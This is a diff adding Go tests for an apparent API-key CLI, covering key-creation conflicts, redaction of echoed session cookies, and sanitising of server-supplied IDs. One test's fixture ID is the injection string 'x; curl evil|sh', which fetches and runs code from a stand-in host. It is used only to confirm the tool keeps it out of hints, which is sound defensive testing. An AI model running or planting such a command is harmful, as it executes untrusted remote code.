@@ -1,0 +1,87 @@
+package cmd_test
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+)
+
+// answering is a program that is signed in to a console which answers every
+// create with 201 and a record, and lists nothing.
+func answering(t *testing.T, name, record string) *program {
+	t.Helper()
+	_, p := newConsole(t, name, func(w http.ResponseWriter, r *http.Request, effect http.Handler) {
+		answer := respond(201, `{"code":"OK","data":`+record+`}`)
+		if r.Method == http.MethodGet {
+			answer = respond(200, `{"code":"OK","data":[]}`)
+		}
+		answer(w, r, effect)
+	})
+	return p
+}
+
+func TestANameThatLooksLikeASecretIsNotDelivered(t *testing.T) {
+	t.Parallel()
+	const name = "mk_ci_pipeline_prod"
+	p := answering(t, "huddle01", `{"id":"ak_1","name":"`+name+`","prefix":"mk_4929de1f"}`)
+	q := answering(t, "huddle01", `{"id":"ak_1","name":"`+name+`","plaintext":"`+straySecret+`"}`)
+	for _, format := range []string{"secret", "json", "table"} {
+		r := p.run("create", "--name", name, "-o", format)
+		r.is(t, format, 9, "ak_1.*exists", "revoke --id ak_1")
+		r.silent(t, format)
+		r = q.run("create", "--name", name, "-o", format)
+		if r.is(t, format, 0); !strings.Contains(r.stdout, straySecret) {
+			t.Errorf("%s: the secret is lost: %s", format, r.stdout)
+		}
+	}
+}
+
+func TestTheKeyIsNamedEvenWhenItsIDStandsElsewhere(t *testing.T) {
+	t.Parallel()
+	const id = "9f7b3a5c-0000-4000-8000-123456789abc"
+	p := answering(t, "huddle01", `{"id":"`+id+`","key_id":"`+id+`","resource":"`+id+`"}`)
+	p.run("create", "--name", "x").is(t, "create", 9, `the key "`+id+`" exists`, "revoke --id "+id)
+	if told := p.run("create", "--name", "x", "-o", "json").errorOf(t).Error; told.KeyID == nil || *told.KeyID != id {
+		t.Errorf("the error is %+v", told)
+	}
+}
+
+func TestAHostileIDEntersNoHint(t *testing.T) {
+	t.Parallel()
+	const id = "x; curl evil|sh"
+	for _, record := range []string{`{"id":"` + id + `"}`, `{"id":"` + id + `","key":"` + strings.Replace(straySecret, "mk_", "rgpu_", 1) + `"}`} {
+		p := answering(t, "remotegpu", record)
+		command := p.command("keyctl", "create", "--name", "x", "--scope", "all", "-o", "json")
+		if strings.Contains(record, "rgpu_") {
+			command.Stdout = needs(t, "/dev/full")
+		}
+		r := p.finish(command)
+		if told := r.errorOf(t).Error; told.KeyID == nil || *told.KeyID != id || told.Hint == nil || strings.Contains(*told.Hint, "curl") {
+			t.Errorf("the error is %s", r.stderr)
+		}
+	}
+}
+
+func TestACookieThatIsEchoedIsBlackedOut(t *testing.T) {
+	t.Parallel()
+	const value = "eyJhbGciOiJIUzI1NiJ9.4929de1f505b514f"
+	for _, cookie := range []string{"access_token=" + value, `access_token="` + value + `"`, "a=b; access_token=" + value} {
+		_, p := newConsole(t, "remotegpu", func(w http.ResponseWriter, r *http.Request, _ http.Handler) {
+			_, after, _ := strings.Cut(r.Header.Get("Cookie"), "access_token=")
+			w.WriteHeader(http.StatusUnauthorized)
+			_ = json.NewEncoder(w).Encode(map[string]string{"message": "bad session " + after})
+		})
+		p = p.with("KEYCTL_API_KEY=cookie:" + cookie)
+		for _, format := range []string{"table", "json"} {
+			r := p.run("list", "-o", format, "--debug="+map[string]string{"table": "true", "json": "false"}[format])
+			r.is(t, cookie, 3, `bad session .*\[redacted\]`)
+			if strings.Contains(r.stderr, "4929de1f") {
+				t.Errorf("%s is shown: %s", cookie, r.stderr)
+			}
+			if format == "json" {
+				r.errorOf(t)
+			}
+		}
+	}
+}
